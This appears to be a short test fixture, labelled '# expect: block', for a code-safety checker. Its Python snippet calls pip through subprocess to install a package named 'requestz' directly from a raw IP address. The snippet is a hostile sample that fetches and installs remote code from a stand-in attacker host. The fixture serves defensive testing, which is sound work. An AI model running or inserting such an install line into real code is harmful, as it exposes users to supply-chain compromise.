# expect: block
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "http://203.0.113.9/pkgs/requestz-2.0.tar.gz"])
